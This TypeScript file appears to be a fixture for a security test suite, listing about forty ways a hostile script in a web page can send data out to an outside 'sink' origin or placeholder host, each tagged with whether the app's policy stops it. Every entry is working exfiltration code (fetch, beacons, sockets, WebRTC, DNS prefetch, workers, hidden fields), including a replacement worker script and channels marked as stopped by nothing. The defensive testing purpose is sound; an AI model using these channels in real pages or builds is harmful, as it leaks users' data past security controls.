/**
 * Ways out of a page, each used on purpose: the suite must see every one, or it is blind. Those of the
 * threat model first, then more. Each function runs inside the page and stands alone.
 */

/** What a leak has to send, and where. */
export type Loot = {
	/** A word. */
	readonly word: string;
	/** Pixels, base64. */
	readonly pixels: string;
	/** Another origin, with a server that takes everything. */
	readonly sink: string;
	/** `host:port` for datagrams. */
	readonly datagrams: string;
	/** A worker's script of the app, which the hostile build has replaced. */
	readonly worker: string;
};

export type Leak = {
	readonly name: string;
	/** What in the app as it is served stops this one. */
	readonly stopped: 'by the policy' | 'by the removal' | 'by nothing';
	readonly run: (loot: Loot, how: string) => unknown;
	/** Goes along to `run`, which knows nothing of what stands beside it. */
	readonly how?: string;
};

/** What a link fetches by itself. */
const RELATIONS = [
	'stylesheet',
	'prefetch',
	'preload',
	'modulepreload',
	'preconnect',
	'dns-prefetch'
] as const;

/** In the place of a worker's script. */
export const LEAKING_WORKER = `onmessage = ({ data: { how, sink, word } }) => {
	if (how === 'fetch') fetch(sink + '/', { method: 'POST', mode: 'no-cors', body: word });
	else {
		const socket = new WebSocket(sink.replace('http', 'ws'));
		socket.onopen = () => socket.send(word);
	}
}`;

function useWorker({ sink, word, worker }: Loot, how: string): void {
	type Policy = { createScriptURL(url: string): string };
	type Types = { createPolicy(name: string, rules: Policy): Policy };
	const { trustedTypes } = globalThis as { trustedTypes?: Types };
	const rules = { createScriptURL: (url: string) => url };
	// Under the app's own name, before the app takes it.
	const policy = trustedTypes?.createPolicy('vultus-worker-url', rules) ?? rules;
	new Worker(policy.createScriptURL(worker)).postMessage({ how, sink, word });
}

function link({ sink, word }: Loot, how: string): void {
	const element = document.createElement('link');
	element.rel = how;
	element.href =
		how === 'dns-prefetch'
			? `http://${btoa(sink)}.leak.example/`
			: `${sink}/${encodeURIComponent(word)}`;
	if (how === 'preload') element.as = 'image';
	document.head.append(element);
}

export const LEAKS: readonly Leak[] = [
	{
		name: 'fetch',
		stopped: 'by the policy',
		run: ({ sink, pixels }) => fetch(`${sink}/`, { method: 'POST', mode: 'no-cors', body: pixels })
	},
	{
		name: 'fetch that outlives the page',
		stopped: 'by the policy',
		run: ({ sink, word }) =>
			fetch(`${sink}/`, { method: 'POST', mode: 'no-cors', body: word, keepalive: true })
	},
	{
		name: 'XMLHttpRequest',
		stopped: 'by the policy',
		run: ({ sink, pixels }) => {
			const request = new XMLHttpRequest();
			request.open('POST', `${sink}/`);
			request.send(Uint8Array.fromBase64(pixels));
		}
	},
	{
		name: 'beacon',
		stopped: 'by the policy',
		run: ({ sink, word }) => navigator.sendBeacon(`${sink}/`, word)
	},
	{
		name: 'event source',
		stopped: 'by the policy',
		run: ({ sink, word }) => new EventSource(`${sink}/?${encodeURIComponent(word)}`)
	},
	{
		name: 'web socket',
		stopped: 'by the policy',
		run: ({ sink, word }) => {
			const socket = new WebSocket(sink.replace('http', 'ws'));
			socket.onopen = () => socket.send(word);
		}
	},
	{
		name: 'web transport',
		stopped: 'by the policy',
		run: ({ datagrams, word }) =>
			new WebTransport(`https://${datagrams}/${encodeURIComponent(word)}`).ready
	},
	{
		name: 'image',
		stopped: 'by the policy',
		run: ({ sink, word }) => {
			new Image().src = `${sink}/?${btoa(encodeURIComponent(word))}`;
		}
	},
	{
		name: 'address in a style',
		stopped: 'by the policy',
		run: ({ sink, pixels }) => {
			document.body.style.backgroundImage = `url("${sink}/${encodeURIComponent(pixels)}")`;
		}
	},
	{
		name: 'font',
		stopped: 'by the policy',
		run: ({ sink, word }) => new FontFace('x', `url("${sink}/${encodeURIComponent(word)}")`).load()
	},
	{
		name: 'script',
		stopped: 'by the policy',
		run: ({ sink, word }) => {
			const script = document.createElement('script');
			script.src = `${sink}/${encodeURIComponent(word)}.js`;
			document.head.append(script);
		}
	},
	{
		name: 'video',
		stopped: 'by the policy',
		run: ({ sink, word }) => {
			const video = document.createElement('video');
			video.src = `${sink}/${encodeURIComponent(word)}`;
			document.body.append(video);
			video.load();
		}
	},
	...RELATIONS.map((rel): Leak => ({
		name: `link: ${rel}`,
		// Looking up a name and connecting are no fetches to the policy.
		stopped: /^(?:dns|preconnect)/.test(rel) ? 'by the removal' : 'by the policy',
		run: link,
		how: rel
	})),
	{
		name: 'speculation rules',
		stopped: 'by the policy',
		run: ({ sink, word }) => {
			const rules = document.createElement('script');
			rules.type = 'speculationrules';
			rules.text = JSON.stringify({
				prefetch: [
					{ source: 'list', urls: [`${sink}/${encodeURIComponent(word)}`], eagerness: 'immediate' }
				]
			});
			document.head.append(rules);
		}
	},
	{
		name: 'prerendered page',
		stopped: 'by the policy',
		run: ({ word }) => {
			const rules = document.createElement('script');
			rules.type = 'speculationrules';
			rules.text = JSON.stringify({
				prerender: [{ urls: [`/?${encodeURIComponent(word)}`], eagerness: 'immediate' }]
			});
			document.head.append(rules);
		}
	},
	{
		name: 'frame',
		stopped: 'by the removal',
		run: ({ sink, word }) => {
			const frame = document.createElement('iframe');
			frame.src = `${sink}/${encodeURIComponent(word)}`;
			document.body.append(frame);
		}
	},
	{
		name: 'plug-in',
		stopped: 'by the policy',
		run: ({ sink, word }) => {
			const plugin = document.createElement('embed');
			plugin.src = `${sink}/${encodeURIComponent(word)}`;
			plugin.type = 'text/html';
			document.body.append(plugin);
		}
	},
	{
		name: 'fetch of an empty frame',
		stopped: 'by the policy',
		run: ({ sink, word }) => {
			const frame = document.createElement('iframe');
			document.body.append(frame);
			const inside = window[0] as unknown as typeof globalThis;
			return inside.fetch(`${sink}/`, { method: 'POST', mode: 'no-cors', body: word });
		}
	},
	{ name: 'fetch of a worker', stopped: 'by the policy', run: useWorker, how: 'fetch' },
	{ name: 'web socket of a worker', stopped: 'by the policy', run: useWorker, how: 'socket' },
	{
		name: 'fetch of a worker made of a blob',
		stopped: 'by the policy',
		run: ({ sink, word }) => {
			const code = `fetch(${JSON.stringify(sink)},{method:'POST',mode:'no-cors',body:${JSON.stringify(word)}})`;
			return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
		}
	},
	{
		name: 'form',
		stopped: 'by the removal',
		run: ({ sink, word }) => {
			const form = document.createElement('form');
			form.action = `${sink}/`;
			form.method = 'POST';
			form.append(Object.assign(document.createElement('input'), { name: 'x', value: word }));
			document.body.append(form);
			form.submit();
		}
	},
	{
		name: 'ping of a link',
		stopped: 'by the policy',
		run: ({ sink, word }) => {
			const link = document.createElement('a');
			link.href = '#';
			link.ping = `${sink}/${encodeURIComponent(word)}`;
			document.body.append(link);
			link.click();
		}
	},
	{
		name: 'navigation',
		stopped: 'by the removal',
		run: ({ sink, word }) => {
			location.href = `${sink}/?${encodeURIComponent(word)}`;
		}
	},
	{
		name: 'new window',
		stopped: 'by the removal',
		run: ({ sink, pixels }) => window.open(`${sink}/?${encodeURIComponent(pixels)}`)
	},
	{
		name: 'WebRTC',
		stopped: 'by the removal',
		run: async ({ datagrams }) => {
			const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${datagrams}` }] });
			peer.createDataChannel('x');
			await peer.setLocalDescription(await peer.createOffer());
		}
	},
	{
		name: 'WebRTC of an empty frame',
		stopped: 'by the removal',
		run: async ({ datagrams, word }) => {
			const frame = document.createElement('iframe');
			document.body.append(frame);
			const inside = window[0] as unknown as typeof globalThis;
			const peer = new inside.RTCPeerConnection({
				iceServers: [{ urls: `turn:${datagrams}`, username: word, credential: word }]
			});
			peer.createDataChannel('x');
			await peer.setLocalDescription(await peer.createOffer());
		}
	},
	{
		name: 'body to the app’s own server',
		stopped: 'by nothing',
		run: ({ pixels }) =>
			fetch('/api/vultus/messages', { method: 'POST', body: Uint8Array.fromBase64(pixels) })
	},
	{
		name: 'query to the app’s own server',
		stopped: 'by nothing',
		run: ({ word }) => fetch(`/icon.svg?${encodeURIComponent(word)}`)
	},
	{
		name: 'header to the app’s own server',
		stopped: 'by nothing',
		run: ({ word }) => fetch('/icon.svg', { headers: { 'x-note': encodeURIComponent(word) } })
	},
	{
		name: 'cookie to the app’s own server',
		stopped: 'by nothing',
		run: ({ word }) => {
			document.cookie = `note=${encodeURIComponent(word)}`;
			return fetch('/icon.svg');
		}
	},
	{
		name: 'address at the app’s own server',
		stopped: 'by nothing',
		run: ({ pixels }) => fetch(`/patients/${pixels.replace(/\W/g, '')}`)
	},
	{
		name: 'hidden in a request that is allowed',
		stopped: 'by nothing',
		run: ({ word }) =>
			fetch('/api/vultus/devices', {
				method: 'POST',
				headers: { 'content-type': 'application/json' },
				body: JSON.stringify({
					publicKey: 'x'.repeat(87),
					recipient: 'x'.repeat(62),
					name: new TextEncoder().encode(word).toBase64(),
					kind: 'tablet'
				})
			})
	},
	{
		name: 'picture to the app’s own server',
		stopped: 'by nothing',
		run: async () => {
			const canvas = new OffscreenCanvas(64, 64);
			canvas.getContext('2d')?.fillRect(8, 8, 32, 32);
			await fetch('/icon.svg', { method: 'POST', body: await canvas.convertToBlob() });
		}
	}
];
